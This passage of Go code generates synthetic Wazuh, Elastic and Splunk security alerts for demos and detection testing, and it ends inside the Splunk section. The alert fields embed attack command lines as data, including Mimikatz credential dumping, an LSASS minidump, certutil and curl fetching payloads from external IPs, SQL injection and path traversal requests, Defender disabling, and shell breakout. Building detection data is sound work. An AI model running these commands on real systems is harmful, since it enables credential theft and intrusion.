package demo

import (
	"encoding/json"
	"fmt"
	"strconv"
	"strings"
	"time"
)

// Log-based detection: Wazuh, Elastic Security and Splunk Enterprise
// Security, each as its forwarder or webhook posts it.

// ---- Wazuh: alerts.json lines ----

type wazuhRule struct {
	w           int
	id          string
	level       int
	description string
	groups      []string
	mitre       []string
	decoder     string
	location    string
	// fill picks the agent and writes data, full_log and the like; it may
	// adjust the rule (vulnerability alerts carry the CVE in it).
	fill func(g *gen, d doc, rule doc, at time.Time) asset
}

func (r wazuhRule) weight() int { return r.w }

// internetFacing are the Linux servers exposed to scans and brute force.
var internetFacing = []string{"web-prod", "bastion", "vpn-gw", "mail"}

func sshLine(host asset, at time.Time, pid int, msg string) string {
	return fmt.Sprintf("%s %s sshd[%d]: %s", syslogTime(at), host.name, pid, msg)
}

var wazuhRules = []wazuhRule{
	{w: 12, id: "5710", level: 5, description: "sshd: Attempt to login using a non-existent user",
		groups: []string{"syslog", "sshd", "authentication_failed", "invalid_login"}, mitre: []string{"T1110.001"},
		decoder: "sshd", location: "/var/log/auth.log",
		fill: func(g *gen, d, _ doc, at time.Time) asset {
			host, src, port, name := g.serverOf(internetFacing...), g.externalIP(), g.port(), pick(g.r, bruteForceNames)
			d["data"] = doc{"srcip": src, "srcport": strconv.Itoa(port), "srcuser": name}
			d["full_log"] = sshLine(host, at, 20000+g.r.IntN(9000), fmt.Sprintf("Invalid user %s from %s port %d", name, src, port))
			return host
		}},
	{w: 3, id: "5712", level: 10, description: "sshd: brute force trying to get access to the system. Non existent user.",
		groups: []string{"syslog", "sshd", "authentication_failures"}, mitre: []string{"T1110"},
		decoder: "sshd", location: "/var/log/auth.log",
		fill: func(g *gen, d, rule doc, at time.Time) asset {
			host, src, port, name := g.serverOf(internetFacing...), g.externalIP(), g.port(), pick(g.r, bruteForceNames)
			rule["frequency"] = 8
			d["data"] = doc{"srcip": src, "srcport": strconv.Itoa(port), "srcuser": name}
			d["full_log"] = sshLine(host, at, 20000+g.r.IntN(9000), fmt.Sprintf("Invalid user %s from %s port %d", name, src, port))
			return host
		}},
	{w: 6, id: "5715", level: 3, description: "sshd: authentication success.",
		groups: []string{"syslog", "sshd", "authentication_success"}, mitre: []string{"T1078"},
		decoder: "sshd", location: "/var/log/auth.log",
		fill: func(g *gen, d, _ doc, at time.Time) asset {
			host, from, user, port := g.server(), g.workstation(), g.user(), g.port()
			for host.os != "linux" {
				host = g.server()
			}
			d["data"] = doc{"srcip": from.ip, "srcport": strconv.Itoa(port), "dstuser": user}
			d["full_log"] = sshLine(host, at, 20000+g.r.IntN(9000),
				fmt.Sprintf("Accepted publickey for %s from %s port %d ssh2: ED25519 SHA256:%s", user, from.ip, port, g.hex(16)))
			return host
		}},
	{w: 6, id: "5402", level: 3, description: "Successful sudo to ROOT executed.",
		groups: []string{"syslog", "sudo"}, mitre: []string{"T1548.003"}, decoder: "sudo", location: "/var/log/auth.log",
		fill: func(g *gen, d, _ doc, at time.Time) asset {
			host, user := g.serverOf("web-prod", "api-prod", "db-prod", "k8s-node", "jenkins"), g.user()
			cmd := pick(g.r, []string{"/usr/bin/systemctl restart nginx", "/usr/bin/apt-get upgrade -y", "/usr/bin/journalctl -u kubelet", "/bin/cat /etc/shadow", "/usr/bin/docker ps"})
			d["data"] = doc{"srcuser": user, "dstuser": "root", "tty": "pts/0", "pwd": "/home/" + user, "command": cmd}
			d["full_log"] = fmt.Sprintf("%s %s sudo: %s : TTY=pts/0 ; PWD=/home/%s ; USER=root ; COMMAND=%s", syslogTime(at), host.name, user, user, cmd)
			return host
		}},
	{w: 4, id: "5503", level: 5, description: "PAM: User login failed.",
		groups: []string{"pam", "syslog", "authentication_failed"}, mitre: []string{"T1110.001"}, decoder: "pam", location: "/var/log/auth.log",
		fill: func(g *gen, d, _ doc, at time.Time) asset {
			host, user, src := g.serverOf("bastion", "vpn-gw"), g.user(), g.externalIP()
			d["data"] = doc{"srcip": src, "dstuser": user, "uid": "0", "euid": "0", "tty": "ssh"}
			d["full_log"] = fmt.Sprintf("%s %s sshd[%d]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=%s  user=%s",
				syslogTime(at), host.name, 20000+g.r.IntN(9000), src, user)
			return host
		}},
	{w: 6, id: "550", level: 7, description: "Integrity checksum changed.",
		groups: []string{"ossec", "syscheck", "syscheck_entry_modified", "syscheck_file"}, mitre: []string{"T1565.001"},
		decoder: "syscheck_integrity_changed", location: "syscheck",
		fill: func(g *gen, d, _ doc, _ time.Time) asset {
			host := g.serverOf("web-prod", "api-prod", "db-prod", "bastion", "jenkins", "gitlab")
			path := pick(g.r, []string{"/etc/passwd", "/etc/ssh/sshd_config", "/etc/sudoers", "/usr/bin/ssh", "/etc/crontab", "/var/www/html/index.php", "/etc/hosts"})
			d["syscheck"] = doc{
				"path": path, "mode": "realtime", "event": "modified", "size_after": strconv.Itoa(200 + g.r.IntN(5000)),
				"uname_after": "root", "md5_before": g.md5(), "md5_after": g.md5(), "sha1_after": g.sha1(), "sha256_after": g.sha256(),
				"changed_attributes": []string{"size", "mtime", "md5", "sha1", "sha256"},
			}
			d["full_log"] = "File '" + path + "' modified\nMode: realtime\nChanged attributes: size,mtime,md5,sha1,sha256\n"
			return host
		}},
	{w: 4, id: "554", level: 5, description: "File added to the system.",
		groups: []string{"ossec", "syscheck", "syscheck_entry_added", "syscheck_file"}, decoder: "syscheck_new_entry", location: "syscheck",
		fill: func(g *gen, d, _ doc, _ time.Time) asset {
			host := g.serverOf("web-prod", "api-prod", "k8s-node", "jenkins")
			path := pick(g.r, []string{"/tmp/.x/kworkerd", "/var/www/html/uploads/" + g.hex(3) + ".php", "/etc/cron.d/sys-update", "/usr/local/bin/" + g.hex(3), "/dev/shm/.cache"})
			d["syscheck"] = doc{"path": path, "mode": "realtime", "event": "added", "size_after": strconv.Itoa(100 + g.r.IntN(900000)),
				"uname_after": pick(g.r, []string{"root", "www-data"}), "md5_after": g.md5(), "sha1_after": g.sha1(), "sha256_after": g.sha256()}
			d["full_log"] = "File '" + path + "' added\nMode: realtime\n"
			return host
		}},
	{w: 8, id: "31101", level: 5, description: "Web server 400 error code.",
		groups: []string{"web", "accesslog", "attack"}, decoder: "web-accesslog", location: "/var/log/nginx/access.log",
		fill: func(g *gen, d, _ doc, at time.Time) asset {
			path := pick(g.r, []string{"/wp-login.php", "/.env", "/admin/config.php", "/phpmyadmin/index.php", "/.git/config", "/cgi-bin/luci", "/actuator/env"})
			return webHit(g, d, at, "GET", path, "404")
		}},
	{w: 3, id: "31103", level: 7, description: "SQL injection attempt.",
		groups: []string{"web", "accesslog", "attack", "sql_injection"}, mitre: []string{"T1190"}, decoder: "web-accesslog", location: "/var/log/nginx/access.log",
		fill: func(g *gen, d, _ doc, at time.Time) asset {
			return webHit(g, d, at, "GET", "/products.php?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--", "500")
		}},
	{w: 2, id: "31106", level: 6, description: "A web attack returned code 200 (success).",
		groups: []string{"web", "accesslog", "attack"}, mitre: []string{"T1190"}, decoder: "web-accesslog", location: "/var/log/nginx/access.log",
		fill: func(g *gen, d, _ doc, at time.Time) asset {
			return webHit(g, d, at, "GET", "/index.php?page=../../../../etc/passwd", "200")
		}},
	{w: 2, id: "31151", level: 10, description: "Multiple web server 400 error codes from same source ip.",
		groups: []string{"web", "accesslog", "web_scan", "recon"}, mitre: []string{"T1595.002"}, decoder: "web-accesslog", location: "/var/log/nginx/access.log",
		fill: func(g *gen, d, rule doc, at time.Time) asset {
			rule["frequency"] = 14
			return webHit(g, d, at, "GET", "/"+g.hex(4)+".php", "404")
		}},
	{w: 6, id: "60122", level: 5, description: "Logon Failure - Unknown user or bad password",
		groups: []string{"windows", "windows_security", "authentication_failed"}, mitre: []string{"T1531"}, decoder: "windows_eventchannel", location: "EventChannel",
		fill: func(g *gen, d, _ doc, at time.Time) asset {
			return winLogon(g, d, at, "4625")
		}},
	{w: 2, id: "60204", level: 10, description: "Multiple Windows Logon Failures",
		groups: []string{"windows", "windows_security", "authentication_failures"}, mitre: []string{"T1110"}, decoder: "windows_eventchannel", location: "EventChannel",
		fill: func(g *gen, d, rule doc, at time.Time) asset {
			rule["frequency"] = 8
			return winLogon(g, d, at, "4625")
		}},
	{w: 2, id: "92200", level: 12, description: "Powershell process spawned Windows command shell instance",
		groups: []string{"windows", "sysmon", "sysmon_eid1_detections"}, mitre: []string{"T1059.003"}, decoder: "windows_eventchannel", location: "EventChannel",
		fill: func(g *gen, d, _ doc, at time.Time) asset {
			host := g.windowsHost()
			user := g.userOf(host)
			d["data"] = doc{"win": doc{
				"eventdata": doc{
					"image": `C:\Windows\System32\cmd.exe`, "parentImage": `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
					"commandLine": `cmd.exe /c whoami /priv && net localgroup administrators`, "user": adDomain + `\` + user,
					"targetUserName": user, "hashes": "SHA256=" + strings.ToUpper(knownHash("cmd.exe")),
				},
				"system": doc{"eventID": "1", "computer": host.fqdn(), "systemTime": isoMillis(at)},
			}}
			return host
		}},
	{w: 1, id: "92052", level: 15, description: "Mimikatz usage detected",
		groups: []string{"windows", "sysmon", "sysmon_eid1_detections"}, mitre: []string{"T1003.001"}, decoder: "windows_eventchannel", location: "EventChannel",
		fill: func(g *gen, d, _ doc, at time.Time) asset {
			host := g.windowsHost()
			user := g.userOf(host)
			d["data"] = doc{"win": doc{
				"eventdata": doc{
					"image": `C:\Users\Public\` + g.hex(2) + ".exe", "commandLine": `m.exe "privilege::debug" "sekurlsa::logonpasswords" exit`,
					"user": adDomain + `\` + user, "targetUserName": user, "hashes": "SHA256=" + strings.ToUpper(knownHash("mimikatz.exe")),
				},
				"system": doc{"eventID": "1", "computer": host.fqdn(), "systemTime": isoMillis(at)},
			}}
			return host
		}},
	{w: 5, id: "23505", level: 10, description: "vulnerability", groups: []string{"vulnerability-detector"},
		decoder: "json", location: "vulnerability-detector",
		fill: func(g *gen, d, rule doc, _ time.Time) asset {
			v := pick(g.r, vulnerabilities)
			host := g.serverOf("web-prod", "api-prod", "db-prod", "k8s-node", "jenkins", "gitlab", "bastion", "mail")
			rule["id"], rule["level"], rule["description"] = v.ruleID, v.level, v.cve+" affects "+v.pkg
			d["data"] = doc{"vulnerability": doc{
				"cve": v.cve, "title": v.cve + " affects " + v.pkg, "severity": v.severity, "cvss": doc{"cvss3": doc{"base_score": v.score}},
				"package":   doc{"name": v.pkg, "version": v.version, "architecture": "amd64"},
				"reference": "https://nvd.nist.gov/vuln/detail/" + v.cve, "status": "Active",
			}}
			return host
		}},
	{w: 2, id: "533", level: 7, description: "Listened ports status (netstat) changed (new port opened or closed).",
		groups: []string{"ossec"}, decoder: "ossec", location: "netstat listening ports",
		fill: func(g *gen, d, _ doc, _ time.Time) asset {
			port := pick(g.r, []int{4444, 1337, 8081, 9001, 31337, 6667})
			d["full_log"] = fmt.Sprintf("ossec: output: 'netstat listening ports':\ntcp 0.0.0.0:%d 0.0.0.0:* %d/%s", port, 1000+g.r.IntN(60000), pick(g.r, []string{"nc", "python3", "socat", "node"}))
			return g.serverOf("web-prod", "api-prod", "k8s-node", "jenkins")
		}},
	{w: 3, id: "80792", level: 3, description: "Audit: Command: /usr/bin/curl.",
		groups: []string{"audit", "audit_command"}, decoder: "auditd", location: "/var/log/audit/audit.log",
		fill: func(g *gen, d, _ doc, _ time.Time) asset {
			url := "http://" + g.externalIP() + "/" + g.hex(3) + ".sh"
			d["data"] = doc{"audit": doc{"command": "curl", "exe": "/usr/bin/curl", "execve": doc{"a0": "curl", "a1": "-fsSL", "a2": url}, "uid": "33", "euid": "33"}}
			return g.serverOf("web-prod", "api-prod")
		}},
	{w: 1, id: "510", level: 7, description: "Host-based anomaly detection event (rootcheck).",
		groups: []string{"ossec", "rootcheck"}, decoder: "rootcheck", location: "rootcheck",
		fill: func(g *gen, d, _ doc, _ time.Time) asset {
			d["full_log"] = "Trojaned version of file '/bin/" + pick(g.r, []string{"ps", "netstat", "ls"}) + "' detected. Signature used: 'bash|^/bin/sh|file\\.h|proc\\.h|/dev/[^n]|^/bin/.*sh' (Generic)."
			return g.serverOf("web-prod", "db-stg", "jenkins")
		}},
}

type vulnerability struct {
	cve, pkg, version, severity string
	score                       float64
	ruleID                      string
	level                       int
}

var vulnerabilities = []vulnerability{
	{"CVE-2024-3094", "xz-utils", "5.6.0-0.2", "Critical", 10.0, "23506", 13},
	{"CVE-2024-6387", "openssh-server", "1:9.6p1-3ubuntu13", "High", 8.1, "23505", 10},
	{"CVE-2023-38545", "curl", "7.88.1-10", "Critical", 9.8, "23506", 13},
	{"CVE-2023-4863", "libwebp7", "1.2.4-0.2", "High", 8.8, "23505", 10},
	{"CVE-2023-44487", "nginx", "1.22.1-9", "High", 7.5, "23505", 10},
	{"CVE-2024-2961", "libc6", "2.36-9", "High", 7.3, "23505", 10},
	{"CVE-2023-5678", "openssl", "3.0.11-1", "Medium", 5.3, "23504", 7},
	{"CVE-2024-0727", "openssl", "3.0.11-1", "Medium", 5.5, "23504", 7},
	{"CVE-2023-28531", "openssh-client", "1:9.2p1-2", "Low", 3.1, "23503", 5},
}

// webHit writes an nginx access-log hit from a scanner on a web server.
func webHit(g *gen, d doc, at time.Time, method, path, status string) asset {
	host, src := g.serverOf("web-prod"), g.externalIP()
	agent := pick(g.r, []string{"Mozilla/5.0 zgrab/0.x", "sqlmap/1.7.2#stable (https://sqlmap.org)", "Nikto/2.5.0", "python-requests/2.31.0", "curl/8.4.0"})
	d["data"] = doc{"srcip": src, "protocol": method, "url": path, "id": status}
	d["full_log"] = fmt.Sprintf(`%s - - [%s] "%s %s HTTP/1.1" %s %d "-" "%s"`, src, at.UTC().Format("02/Jan/2006:15:04:05 -0700"), method, path, status, 150+g.r.IntN(900), agent)
	return host
}

// winLogon writes a Windows Security logon event seen by a domain controller.
func winLogon(g *gen, d doc, at time.Time, eventID string) asset {
	dc, user := g.serverOf("DC"), g.user()
	src := g.workstation().ip
	if g.chance(0.3) {
		src = g.externalIP()
	}
	d["data"] = doc{"win": doc{
		"eventdata": doc{"targetUserName": user, "targetDomainName": adDomain, "ipAddress": src, "logonType": "3",
			"status": "0xc000006d", "subStatus": "0xc000006a", "workstationName": g.workstation().name},
		"system": doc{"eventID": eventID, "computer": dc.fqdn(), "systemTime": isoMillis(at), "channel": "Security"},
	}}
	return dc
}

func wazuhAlert(g *gen, at time.Time) doc {
	r := choose(g.r, wazuhRules)
	rule := doc{
		"level": r.level, "description": r.description, "id": r.id, "groups": r.groups,
		"firedtimes": 1 + g.r.IntN(60), "mail": r.level >= 12,
	}
	if r.mitre != nil {
		rule["mitre"] = doc{"id": r.mitre}
	}
	d := doc{
		"timestamp": isoOffset(at, "000"),
		"rule":      rule,
		"manager":   doc{"name": "wazuh-manager"},
		"id":        fmt.Sprintf("%d.%d", at.Unix(), g.r.IntN(9_000_000)),
		"decoder":   doc{"name": r.decoder},
		"location":  r.location,
	}
	host := r.fill(g, d, rule, at)
	d["agent"] = doc{"id": wazuhAgentID(host), "name": host.name, "ip": host.ip}
	return d
}

// wazuhAgentID is the agent number the manager gave the host at enrolment.
func wazuhAgentID(host asset) string {
	n, _ := strconv.ParseUint(knownHash("wazuh:" + host.name)[:4], 16, 32)
	return fmt.Sprintf("%03d", 1+n%900)
}

// ---- Elastic Security: Kibana webhook with ECS alert documents ----

type elasticRule struct {
	w                      int
	name, description      string
	severity               string
	risk                   int
	ruleType               string
	tags                   []string
	tactic, technique, sub [2]string // {id, name}
	category               string
	fill                   func(g *gen, d doc) (host asset, user, what string)
}

func (r elasticRule) weight() int { return r.w }

var elasticRules = []elasticRule{
	{w: 3, name: "Suspicious Execution via Microsoft Office Application", severity: "high", risk: 73, ruleType: "eql",
		description: "Identifies suspicious child processes of frequently targeted Microsoft Office applications.",
		tags:        []string{"Domain: Endpoint", "OS: Windows", "Use Case: Threat Detection", "Tactic: Initial Access", "Data Source: Elastic Defend"},
		tactic:      [2]string{"TA0001", "Initial Access"}, technique: [2]string{"T1566", "Phishing"}, sub: [2]string{"T1566.001", "Spearphishing Attachment"},
		category: "process",
		fill: func(g *gen, d doc) (asset, string, string) {
			host := g.windowsHost()
			user := g.userOf(host)
			endpointProcess(g, d, "cmd.exe", fmt.Sprintf(`cmd.exe /c certutil -urlcache -f http://%s/%s.exe %%TEMP%%\%s.exe`, g.externalIP(), g.hex(2), g.hex(2)), "WINWORD.EXE", g.sha256())
			return host, user, "process event with process cmd.exe, parent process WINWORD.EXE"
		}},
	{w: 1, name: "Potential Credential Access via LSASS Memory Dump", severity: "critical", risk: 99, ruleType: "eql",
		description: "Identifies suspicious access to LSASS handle from a call trace pointing to DBGHelp.dll or DBGCore.dll.",
		tags:        []string{"Domain: Endpoint", "OS: Windows", "Use Case: Threat Detection", "Tactic: Credential Access"},
		tactic:      [2]string{"TA0006", "Credential Access"}, technique: [2]string{"T1003", "OS Credential Dumping"}, sub: [2]string{"T1003.001", "LSASS Memory"},
		category: "process",
		fill: func(g *gen, d doc) (asset, string, string) {
			host := g.windowsHost()
			user := g.userOf(host)
			endpointProcess(g, d, "rundll32.exe", `rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 624 C:\temp\`+g.hex(2)+".dmp full", "cmd.exe", knownHash("rundll32.exe"))
			return host, user, "process event with process rundll32.exe, parent process cmd.exe"
		}},
	{w: 4, name: "Unusual Parent-Child Relationship", severity: "medium", risk: 47, ruleType: "eql",
		description: "Identifies Windows programs run from unexpected parent processes.",
		tags:        []string{"Domain: Endpoint", "OS: Windows", "Use Case: Threat Detection", "Tactic: Privilege Escalation"},
		tactic:      [2]string{"TA0004", "Privilege Escalation"}, technique: [2]string{"T1055", "Process Injection"}, sub: [2]string{"T1055.012", "Process Hollowing"},
		category: "process",
		fill: func(g *gen, d doc) (asset, string, string) {
			host := g.windowsHost()
			endpointProcess(g, d, "svchost.exe", `C:\Windows\System32\svchost.exe -k netsvcs`, "explorer.exe", knownHash("svchost.exe"))
			return host, g.userOf(host), "process event with process svchost.exe, parent process explorer.exe"
		}},
	{w: 6, name: "Potential SSH Brute Force Detected", severity: "medium", risk: 47, ruleType: "eql",
		description: "Identifies multiple consecutive login failures targeting a user account from the same source address within a short time interval.",
		tags:        []string{"Domain: Endpoint", "OS: Linux", "Use Case: Threat Detection", "Tactic: Credential Access"},
		tactic:      [2]string{"TA0006", "Credential Access"}, technique: [2]string{"T1110", "Brute Force"}, sub: [2]string{"T1110.001", "Password Guessing"},
		category: "authentication",
		fill: func(g *gen, d doc) (asset, string, string) {
			host := g.serverOf(internetFacing...)
			d["source.ip"] = g.externalIP()
			d["process.name"] = "sshd"
			d["event.outcome"] = "failure"
			return host, pick(g.r, bruteForceNames), "authentication event with process sshd, source " + d["source.ip"].(string)
		}},
	{w: 4, name: "Multiple Logon Failure from the same Source Address", severity: "medium", risk: 47, ruleType: "eql",
		description: "Identifies multiple logon failures followed by a successful one from the same source address.",
		tags:        []string{"Domain: Endpoint", "OS: Windows", "Use Case: Threat Detection", "Tactic: Credential Access", "Data Source: System"},
		tactic:      [2]string{"TA0006", "Credential Access"}, technique: [2]string{"T1110", "Brute Force"}, sub: [2]string{"T1110.001", "Password Guessing"},
		category: "authentication",
		fill: func(g *gen, d doc) (asset, string, string) {
			d["source.ip"] = g.workstation().ip
			d["event.outcome"] = "failure"
			d["winlog.event_id"] = "4625"
			return g.serverOf("DC"), g.user(), "authentication event from " + d["source.ip"].(string)
		}},
	{w: 3, name: "Suspicious CertUtil Commands", severity: "medium", risk: 47, ruleType: "eql",
		description: "Identifies suspicious commands being used with certutil.exe to download or decode files.",
		tags:        []string{"Domain: Endpoint", "OS: Windows", "Use Case: Threat Detection", "Tactic: Defense Evasion"},
		tactic:      [2]string{"TA0005", "Defense Evasion"}, technique: [2]string{"T1140", "Deobfuscate/Decode Files or Information"},
		category: "process",
		fill: func(g *gen, d doc) (asset, string, string) {
			host := g.windowsHost()
			endpointProcess(g, d, "certutil.exe", `certutil.exe -decode C:\Users\Public\`+g.hex(3)+`.txt C:\Users\Public\`+g.hex(3)+".exe", "cmd.exe", knownHash("certutil.exe"))
			return host, g.userOf(host), "process event with process certutil.exe, parent process cmd.exe"
		}},
	{w: 8, name: "Whoami Process Activity", severity: "low", risk: 21, ruleType: "eql",
		description: "Identifies suspicious use of whoami.exe, which adversaries use to find who is logged on.",
		tags:        []string{"Domain: Endpoint", "OS: Windows", "Use Case: Threat Detection", "Tactic: Discovery"},
		tactic:      [2]string{"TA0007", "Discovery"}, technique: [2]string{"T1033", "System Owner/User Discovery"},
		category: "process",
		fill: func(g *gen, d doc) (asset, string, string) {
			host := g.windowsHost()
			endpointProcess(g, d, "whoami.exe", "whoami /all", "cmd.exe", knownHash("whoami.exe"))
			return host, g.userOf(host), "process event with process whoami.exe, parent process cmd.exe"
		}},
	{w: 5, name: "Net command via SYSTEM account", severity: "low", risk: 21, ruleType: "eql",
		description: "Identifies the SYSTEM account using account discovery utilities.",
		tags:        []string{"Domain: Endpoint", "OS: Windows", "Use Case: Threat Detection", "Tactic: Discovery"},
		tactic:      [2]string{"TA0007", "Discovery"}, technique: [2]string{"T1087", "Account Discovery"},
		category: "process",
		fill: func(g *gen, d doc) (asset, string, string) {
			host := g.windowsHost()
			endpointProcess(g, d, "net.exe", "net user /domain", "cmd.exe", knownHash("net.exe"))
			return host, "SYSTEM", "process event with process net.exe, parent process cmd.exe"
		}},
	{w: 2, name: "Windows Defender Disabled via Registry Modification", severity: "medium", risk: 47, ruleType: "eql",
		description: "Identifies modifications to the Windows Defender registry settings to disable the service.",
		tags:        []string{"Domain: Endpoint", "OS: Windows", "Use Case: Threat Detection", "Tactic: Defense Evasion"},
		tactic:      [2]string{"TA0005", "Defense Evasion"}, technique: [2]string{"T1562", "Impair Defenses"}, sub: [2]string{"T1562.001", "Disable or Modify Tools"},
		category: "registry",
		fill: func(g *gen, d doc) (asset, string, string) {
			host := g.windowsHost()
			d["registry.path"] = `HKLM\SOFTWARE\Policies\Microsoft\Windows Defender\DisableAntiSpyware`
			d["registry.data.strings"] = []string{"1"}
			d["process.name"] = "reg.exe"
			return host, g.userOf(host), "registry event with process reg.exe"
		}},
	{w: 3, name: "Potential DNS Tunneling via NsLookup", severity: "low", risk: 21, ruleType: "threshold",
		description: "Identifies multiple nslookup.exe executions with an explicit query type from the same host.",
		tags:        []string{"Domain: Endpoint", "OS: Windows", "Use Case: Threat Detection", "Tactic: Command and Control"},
		tactic:      [2]string{"TA0011", "Command and Control"}, technique: [2]string{"T1071", "Application Layer Protocol"}, sub: [2]string{"T1071.004", "DNS"},
		category: "process",
		fill: func(g *gen, d doc) (asset, string, string) {
			host := g.windowsHost()
			domain := g.hex(12) + "." + g.badDomain()
			endpointProcess(g, d, "nslookup.exe", "nslookup -q=txt "+domain, "powershell.exe", knownHash("nslookup.exe"))
			d["dns.question.name"] = domain
			return host, g.userOf(host), "process event with process nslookup.exe, parent process powershell.exe"
		}},
	{w: 2, name: "Threat Intel IP Address Indicator Match", severity: "high", risk: 73, ruleType: "threat_match",
		description: "This rule is triggered when an IP address indicator from the threat intel indices matches a network event.",
		tags:        []string{"OS: Windows", "Data Source: Elastic Endgame", "Rule Type: Indicator Match"},
		tactic:      [2]string{"TA0011", "Command and Control"}, technique: [2]string{"T1071", "Application Layer Protocol"},
		category: "network",
		fill: func(g *gen, d doc) (asset, string, string) {
			host := g.workstation()
			d["source.ip"] = host.ip
			d["destination.ip"] = g.externalIP()
			d["destination.port"] = 443
			d["threat.indicator.type"] = "ipv4-addr"
			return host, host.owner, "network event to " + d["destination.ip"].(string)
		}},
	{w: 1, name: "Web Shell Detection: Script Process Child of Common Web Processes", severity: "high", risk: 73, ruleType: "eql",
		description: "Identifies suspicious commands executed via a web server, which may suggest a vulnerability and remote shell access.",
		tags:        []string{"Domain: Endpoint", "OS: Windows", "Use Case: Threat Detection", "Tactic: Persistence"},
		tactic:      [2]string{"TA0003", "Persistence"}, technique: [2]string{"T1505", "Server Software Component"}, sub: [2]string{"T1505.003", "Web Shell"},
		category: "process",
		fill: func(g *gen, d doc) (asset, string, string) {
			endpointProcess(g, d, "cmd.exe", `cmd.exe /c "cd /d C:\inetpub\wwwroot&whoami&ipconfig /all"`, "w3wp.exe", knownHash("cmd.exe"))
			return g.serverOf("EXCH"), `IIS APPPOOL\MSExchangeOWAAppPool`, "process event with process cmd.exe, parent process w3wp.exe"
		}},
	{w: 3, name: "Microsoft 365 Impossible travel activity", severity: "medium", risk: 47, ruleType: "query",
		description: "Identifies when a Microsoft Cloud App Security reported a risky sign-in attempt due to a login associated with an impossible travel.",
		tags:        []string{"Domain: Cloud", "Data Source: Microsoft 365", "Use Case: Configuration Audit", "Tactic: Initial Access"},
		tactic:      [2]string{"TA0001", "Initial Access"}, technique: [2]string{"T1078", "Valid Accounts"},
		category: "authentication",
		fill: func(g *gen, d doc) (asset, string, string) {
			user := g.user()
			d["source.ip"] = g.externalIP()
			d["event.dataset"] = "o365.audit"
			d["o365.audit.UserId"] = user + "@" + mailDomain
			return asset{}, user, "sign-in by " + user + " from " + d["source.ip"].(string)
		}},
	{w: 3, name: "Scheduled Task Created by a Windows Script", severity: "medium", risk: 47, ruleType: "eql",
		description: "A scheduled task was created by a Windows script via cscript.exe, wscript.exe or powershell.exe.",
		tags:        []string{"Domain: Endpoint", "OS: Windows", "Use Case: Threat Detection", "Tactic: Persistence"},
		tactic:      [2]string{"TA0003", "Persistence"}, technique: [2]string{"T1053", "Scheduled Task/Job"}, sub: [2]string{"T1053.005", "Scheduled Task"},
		category: "process",
		fill: func(g *gen, d doc) (asset, string, string) {
			host := g.windowsHost()
			endpointProcess(g, d, "schtasks.exe", `schtasks.exe /create /tn "Adobe Updater" /tr "wscript.exe C:\ProgramData\`+g.hex(3)+`.vbs" /sc onlogon`, "wscript.exe", knownHash("schtasks.exe"))
			return host, g.userOf(host), "process event with process schtasks.exe, parent process wscript.exe"
		}},
	{w: 2, name: "Linux Restricted Shell Breakout via Linux Binary(s)", severity: "medium", risk: 47, ruleType: "eql",
		description: "Identifies Linux binary(s) abuse to break out of restricted shells or environments.",
		tags:        []string{"Domain: Endpoint", "OS: Linux", "Use Case: Threat Detection", "Tactic: Execution"},
		tactic:      [2]string{"TA0002", "Execution"}, technique: [2]string{"T1059", "Command and Scripting Interpreter"}, sub: [2]string{"T1059.004", "Unix Shell"},
		category: "process",
		fill: func(g *gen, d doc) (asset, string, string) {
			endpointProcess(g, d, "find", `find . -exec /bin/sh \; -quit`, "bash", knownHash("find"))
			return g.serverOf("web-prod", "api-prod", "jenkins"), "www-data", "process event with process find, parent process bash"
		}},
}

func endpointProcess(g *gen, d doc, name, cmd, parent, sha256 string) {
	d["process.name"] = name
	d["process.command_line"] = cmd
	d["process.parent.name"] = parent
	d["process.hash.sha256"] = sha256
	d["process.pid"] = 1000 + g.r.IntN(30000)
}

func elasticAlert(g *gen, at time.Time) doc {
	r := choose(g.r, elasticRules)
	technique := doc{"id": r.technique[0], "name": r.technique[1], "reference": attackRef(r.technique[0])}
	if r.sub[0] != "" {
		technique["subtechnique"] = []any{doc{"id": r.sub[0], "name": r.sub[1], "reference": attackRef(r.sub[0])}}
	}
	d := doc{
		"@timestamp":                    isoMillis(at),
		"kibana.alert.uuid":             g.hex(32),
		"kibana.alert.rule.name":        r.name,
		"kibana.alert.rule.uuid":        stableUUID("kibana-rule:" + r.name),
		"kibana.alert.rule.rule_id":     stableUUID("elastic-prebuilt:" + r.name),
		"kibana.alert.rule.description": r.description,
		"kibana.alert.rule.type":        r.ruleType,
		"kibana.alert.rule.tags":        r.tags,
		"kibana.alert.rule.threat":      []any{doc{"framework": "MITRE ATT&CK", "tactic": doc{"id": r.tactic[0], "name": r.tactic[1], "reference": "https://attack.mitre.org/tactics/" + r.tactic[0] + "/"}, "technique": []any{technique}}},
		"kibana.alert.severity":         r.severity,
		"kibana.alert.risk_score":       r.risk,
		"kibana.alert.original_time":    isoMillis(at.Add(-time.Duration(1+g.r.IntN(30)) * time.Second)),
		"kibana.alert.workflow_status":  "open",
		"kibana.alert.status":           "active",
		"kibana.alert.depth":            1,
		"kibana.space_ids":              []string{"default"},
		"event.kind":                    "signal",
		"event.category":                []string{r.category},
		"agent.type":                    "endpoint",
		"ecs.version":                   "8.11.0",
	}
	host, user, what := r.fill(g, d)
	if host.name != "" {
		d["host.name"] = host.name
		d["host.ip"] = []string{host.ip}
		d["host.os.family"] = host.os
	}
	if user != "" {
		d["user.name"] = user
	}
	by := ""
	if user != "" {
		by = " by " + user
	}
	on := ""
	if host.name != "" {
		on = " on " + host.name
	}
	d["kibana.alert.reason"] = fmt.Sprintf("%s%s%s created %s alert %s.", what, by, on, r.severity, r.name)
	return d
}

func attackRef(id string) string {
	return "https://attack.mitre.org/techniques/" + strings.ReplaceAll(id, ".", "/") + "/"
}

func elasticEnvelope(_ *gen, docs []json.RawMessage) ([]byte, error) {
	return json.Marshal(doc{"alerts": docs})
}

// ---- Splunk Enterprise Security: webhook alert action bodies ----

type splunkSearch struct {
	w           int
	search      string // saved search name
	rule        string
	description string
	urgency     string
	domain      string // ES security domain
	mitre       []string
	tags        []string
	fill        func(g *gen, row doc)
}

func (s splunkSearch) weight() int { return s.w }

var splunkSearches = []splunkSearch{
	{w: 6, search: "Access - Excessive Failed Logins - Rule", rule: "Excessive Failed Logins", urgency: "medium", domain: "access",
		description: "Detects excessive number of failed login attempts (this is likely a brute force attack).",
		mitre:       []string{"T1110"}, tags: []string{"authentication", "failure"},
		fill: func(g *gen, row doc) {
			host := g.serverOf("vpn-gw", "bastion", "mail")
